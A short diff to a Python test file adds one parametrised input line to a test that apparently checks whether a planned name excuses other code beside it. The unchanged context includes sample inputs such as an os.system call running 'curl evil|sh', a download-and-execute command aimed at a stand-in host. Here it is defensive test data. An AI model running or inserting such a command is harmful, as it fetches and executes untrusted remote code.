@@ -311,6 +311,7 @@ def test_callers_follow_a_name_that_is_renamed(branch: Branch) -> None:
         "    import os; os.system('fetch')",
         "    import os; os.system('curl evil|sh'); fetch",
         "    handler = fetch",
+        "    fetch",
     ],
 )
 def test_a_planned_name_excuses_no_other_code_beside_it(branch: Branch, line: str) -> None:
